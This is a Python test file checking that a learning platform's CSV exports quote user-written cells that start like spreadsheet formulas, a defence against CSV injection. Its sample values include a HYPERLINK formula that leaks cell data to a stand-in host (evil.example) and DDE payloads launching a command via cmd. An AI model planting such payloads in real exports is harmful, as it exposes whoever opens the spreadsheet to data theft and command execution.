"""CSV downloads never hand a spreadsheet a formula: user-written cells that start with
= + - @ (or a tab or carriage return) get a leading ' (OWASP's advice on CSV injection).
Password sheets, batch rosters and the three dashboard exports are checked."""

import csv
import io
import re
from datetime import date

from lms.auth.models import User
from lms.batches import services as batches
from lms.certificates import services as certificates
from lms.core.spreadsheets import text_cell
from lms.courses.parser import parse_course
from lms.courses.services import publish
from lms.extensions import db
from tests.certificates.conftest import complete
from tests.courses.samples import COURSE_MD, course_files
from tests.security.hostile import csv_bytes, people_csv

FORMULAS = {
    "region": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "name": "=cmd|' /C calc'!A0",
    "other name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "issuer": "+1+cmd|' /C calc'!A0",
    "course": "-2+3+cmd|' /C calc'!A0",
    "batch": "=1+1",
    "reason": "@A1",
}
PHONE = re.compile(r"^\+91 \d{5} \d{5}$")  # the site's own format, not user text


def cells(data: bytes) -> list[str]:
    """Every cell of a downloaded CSV (UTF-8 with a byte-order mark)."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_no_formulas(data: bytes, *shown: str) -> None:
    """No cell starts like a formula but the phone numbers; `shown` appear quoted with '."""
    found = cells(data)
    assert [
        cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not PHONE.match(cell)
    ] == []
    assert [value for value in shown if f"'{value}" not in found] == []


def test_text_cells_that_start_like_formulas_are_quoted():
    assert [text_cell(value) for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1",
    ]  # fmt: skip
    assert [text_cell(value) for value in ("Anita", "অনিতা = 1", "", "'=1")] == [
        "Anita",
        "অনিতা = 1",
        "",
        "'=1",
    ]


def test_no_download_hands_a_spreadsheet_a_formula(app, client, auth, runner, world, tmp_path):
    regions = tmp_path / "regions.csv"
    regions.write_bytes(
        csv_bytes(["code", "name", "kind", "parent"], ("FX", FORMULAS["region"], "state", ""))
    )
    assert runner.invoke(args=["regions", "import", str(regions)]).exit_code == 0
    auth.login(world.admin)
    people = people_csv(
        (FORMULAS["name"], "9830050001", "FX", "sahayak"), (FORMULAS["other name"], "9830050002", "FX", "sahayak"),
        (FORMULAS["issuer"], "9830050003", "FX", "cell_head"),
    )  # fmt: skip
    sheet = client.post("/people/import", data={"file": (io.BytesIO(people), "p.csv")}).headers["Location"]
    with client.get(f"{sheet}.csv") as response:
        assert_no_formulas(response.data, FORMULAS["name"], FORMULAS["other name"], FORMULAS["issuer"])

    title = COURSE_MD.replace("title: নিরাপদ অ্যাকাউন্ট", f"title: {FORMULAS['course']!r}")
    version = publish(parse_course("formulas", course_files(**{"course.md": title})), None, "cli").version
    fx = db.session.execute(db.select(User.region_id).filter_by(phone="9830050001")).scalar_one()
    batch = batches.create_batch(world.admin, version.course_id, FORMULAS["batch"], "", date(2026, 12, 1), fx)
    learners = db.session.execute(
        db.select(User).where(User.phone.in_(["9830050001", "9830050002"]))
    ).scalars()
    for learner in learners:
        batches.join(learner, batch)
        complete(learner, version)
    head = db.session.execute(db.select(User).filter_by(phone="9830050003")).scalar_one()
    issued, _ = certificates.issue(head, [(user.id, version.course_id) for user in batch_members(batch)])
    certificates.revoke(head, issued[0].code, "other", FORMULAS["reason"])

    with client.get(f"/batches/{batch.id}/roster.csv") as response:
        assert_no_formulas(response.data, FORMULAS["name"], FORMULAS["other name"])
    expected = {
        "people": [FORMULAS["name"], FORMULAS["other name"], FORMULAS["region"]],
        "certificates": [FORMULAS["name"], FORMULAS["course"], FORMULAS["region"], FORMULAS["issuer"], FORMULAS["reason"]],
        "batches": [FORMULAS["batch"], FORMULAS["course"], FORMULAS["region"]],
    }  # fmt: skip
    for name, shown in expected.items():
        with client.get(f"/reports/{name}.csv", query_string={"region": "FX"}) as response:
            assert_no_formulas(response.data, *shown)


def batch_members(batch) -> list[User]:
    from lms.batches.models import Membership

    query = (
        db.select(User)
        .join(Membership, Membership.user_id == User.id)
        .filter(Membership.batch_id == batch.id)
    )
    return list(db.session.execute(query).scalars())
